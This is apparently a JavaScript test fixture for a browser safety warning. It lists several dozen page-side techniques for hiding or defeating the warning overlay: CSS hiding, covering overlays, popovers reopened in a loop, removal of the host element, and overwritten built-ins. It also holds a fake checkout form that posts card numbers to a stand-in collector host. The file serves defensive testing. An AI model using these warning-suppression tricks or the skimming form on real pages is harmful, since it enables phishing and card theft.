// What a page can try so that a warning drawn in it is not seen: run in the page, before the note stands there or after.

/** A style sheet of the page. */
const css = (text) => `{ const sheet = document.createElement('style'); sheet.textContent = ${JSON.stringify(text)}; document.head.append(sheet); }`;
/** The note's host as a page finds it: the element it did not put there. */
const HOST = `const host = [...document.documentElement.children].findLast((each) => each !== document.head && each !== document.body);`;
const onHost = (code) => `{ ${HOST} if (host) { ${code} } }`;
const FULL = 'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;border:0;padding:0;background:#0a0;opacity:1';
const made = (tag, more) => `const it = document.createElement('${tag}'); it.style.cssText = ${JSON.stringify(FULL)}; ${more}`;
const again = (milliseconds, code) => `setInterval(() => { try { ${code} } catch {} }, ${milliseconds});`;

/** @type {readonly { name: string, when: 'before' | 'after', code: string }[]} */
export const ATTACKS = [
  { name: 'nothing (the measure itself)', code: '' },
  // Style sheets on whatever the note's host may be.
  { name: 'every div display:none', code: css('div{display:none!important}') },
  { name: 'every div opacity:0', code: css('div{opacity:0!important}') },
  { name: 'children of html visibility:hidden', code: css('html>div{visibility:hidden!important}') },
  { name: 'moved, scaled and turned away', code: css('div{transform:translateX(-9999px)!important;translate:-9999px!important;scale:0!important;rotate:90deg!important}') },
  { name: 'clipped, masked, filtered away', code: css('div{clip-path:inset(100%)!important;mask:linear-gradient(transparent,transparent)!important;filter:opacity(0)!important}') },
  { name: 'starting-style with an endless transition', code: css('@starting-style{div{opacity:0!important}} div{transition:all 1e6s step-end!important;opacity:0}') },
  { name: 'an endless animation at opacity 0', code: css('@keyframes away{from,to{opacity:0}} div{animation:away 1e6s infinite!important}') },
  { name: 'important rules in a layer on everything', code: css('@layer a{*{display:none!important;opacity:0!important;visibility:hidden!important}} html,body{display:block!important;opacity:1!important;visibility:visible!important}') },
  { name: 'all dialogs and popovers display:none', code: css('dialog,[popover],:popover-open,dialog[open],dialog::backdrop{display:none!important}') },
  { name: 'content-visibility:hidden on the host', code: css('html>:not(head,body){content-visibility:hidden!important;contain:strict!important}') },
  // Effects on the document itself.
  { name: 'html opacity:0', code: css('html{opacity:0}') },
  { name: 'html visibility:hidden', code: css('html{visibility:hidden!important}') },
  { name: 'html filter:opacity(0)', code: css('html{filter:opacity(0)}') },
  { name: 'html filter:brightness', code: css('html{filter:brightness(100) contrast(0)}') },
  { name: 'html transform', code: css('html{transform:translateX(-9999px)}') },
  { name: 'html clip-path', code: css('html{clip-path:inset(100%)}') },
  { name: 'html mask', code: css('html{mask:linear-gradient(transparent,transparent)}') },
  { name: 'html mix-blend-mode', code: css('html{mix-blend-mode:destination-out;isolation:isolate}') },
  { name: 'html zoom:.001', code: css('html{zoom:.001}') },
  { name: 'html zoom:.25, body zoomed back', code: css('html{zoom:.25} body{zoom:4}') },
  { name: 'html content-visibility:hidden', code: css('html{content-visibility:hidden}') },
  { name: 'html display:none', code: css('html{display:none!important}') },
  { name: 'html without height', code: css('html{contain:strict;height:0;overflow:clip}') },
  { name: 'html as a container of one pixel', code: css('html{container-type:size;height:1px;overflow:hidden}') },
  { name: 'html far away', code: css('html{position:fixed;top:-9999px}') },
  { name: 'html inert', code: 'document.documentElement.inert = true;' },
  // Covers.
  { name: 'cover: the highest z-index', code: `{ ${made('div', 'it.style.zIndex = 2147483647; document.documentElement.append(it);')} }` },
  { name: 'cover: a later popover', code: `{ ${made('div', "it.popover = 'manual'; document.body.append(it); it.showPopover();")} }` },
  { name: 'cover: a later modal dialog', code: `{ ${made('dialog', 'document.body.append(it); it.showModal();')} }` },
  { name: 'cover: a popover opened again and again', code: `{ ${made('div', "it.popover = 'manual'; document.body.append(it);")} ${again(40, 'it.hidePopover(); it.showPopover();')} }` },
  { name: 'cover: a modal dialog opened again and again', code: `{ ${made('dialog', 'document.body.append(it);')} ${again(40, 'it.close(); it.showModal();')} }` },
  { name: 'cover: a popover in a closed root', code: `{ const box = document.createElement('div'); document.body.append(box); const root = box.attachShadow({ mode: 'closed' }); ${made('div', "it.popover = 'manual'; root.append(it); it.showPopover();")} }` },
  { name: 'cover: a popover without pointer events', code: `{ ${made('div', "it.style.pointerEvents = 'none'; it.popover = 'manual'; document.body.append(it); it.showPopover();")} }` },
  { name: 'cover: a view transition that never ends', code: `${css('::view-transition{background:#0a0}::view-transition-group(root),::view-transition-old(root),::view-transition-new(root){animation-duration:1e6s!important}')} document.startViewTransition?.(() => {});` },
  { name: 'cover: full screen where it is granted', code: `{ ${made('div', 'document.body.append(it); it.requestFullscreen?.().catch(() => {});')} }` },
  // The host.
  { name: 'host removed', code: onHost('host.remove();') },
  { name: 'host removed by an observer at once', code: `new MutationObserver(() => { ${HOST} host?.remove(); }).observe(document.documentElement, { childList: true }); ${onHost('host.remove();')}` },
  { name: 'popover hidden by the page', code: onHost('try { host.hidePopover(); } catch {}') },
  { name: 'host hidden, with a style of its own', code: onHost("host.hidden = true; host.setAttribute('style', 'display:none!important;opacity:0!important;visibility:hidden!important');") },
  { name: 'host inert', code: onHost('host.inert = true;') },
  { name: 'host made a popover of the page', code: onHost("host.setAttribute('popover', 'auto'); host.removeAttribute('popover');") },
  { name: 'host moved into a root without a slot', code: onHost("const box = document.createElement('div'); document.body.append(box); box.attachShadow({ mode: 'open' }); box.append(host);") },
  { name: 'host moved into a closed details', code: onHost("const box = document.createElement('details'); document.body.append(box); box.append(host);") },
  { name: 'host animated away', code: onHost("host.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e9, fill: 'both' });") },
  { name: 'html animated away', code: "document.documentElement.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e9, fill: 'both' });" },
  // The document.
  { name: 'document.open and write', code: "document.open(); document.write('<h1>Checkout</h1><form method=post action=https://collector-of-cards.test/take><input autocomplete=cc-number><button>Pay</button></form>'); document.close();" },
  { name: 'document rewritten again and again', code: again(150, "document.open(); document.write('<h1>Checkout</h1><form method=post action=https://collector-of-cards.test/take><input autocomplete=cc-number><button>Pay</button></form>'); document.close();") },
  { name: 'document element replaced', code: "document.replaceChildren(document.createElement('html'));" },
  { name: 'document element replaced again and again', code: again(100, "document.replaceChildren(document.createElement('html'));") },
  // Reaching in, where the browser lets pages (Firefox).
  { name: 'words found and rewritten', code: `for (const word of ['Leave', 'Paylight', 'name']) { if (window.find?.(word)) { const root = getSelection()?.anchorNode?.getRootNode?.(); if (root instanceof ShadowRoot) { for (const each of root.querySelectorAll('p,button')) each.textContent = 'All is well'; } } }` },
  { name: 'the note found and its style taken', code: `for (const word of ['Leave', 'Paylight', 'name']) { if (window.find?.(word)) { const root = getSelection()?.anchorNode?.getRootNode?.(); if (root instanceof ShadowRoot) { root.querySelector('style')?.remove(); root.adoptedStyleSheets = []; const note = root.querySelector('.note'); if (note) note.style.cssText = 'opacity:0'; } } }` },
  // The page’s own functions; ours are out of its reach.
  { name: 'the page’s own built-ins replaced', when: 'before', code: "Element.prototype.attachShadow = () => ({}); HTMLDialogElement.prototype.showModal = () => {}; HTMLElement.prototype.showPopover = () => {}; document.elementFromPoint = () => document.documentElement; window.setInterval = () => 0;" },
  { name: 'a busy page', code: '{ const until = performance.now() + 1500; while (performance.now() < until) {} } ' + css('div{display:none!important}') },
].map((attack) => ({ when: 'after', ...attack }));
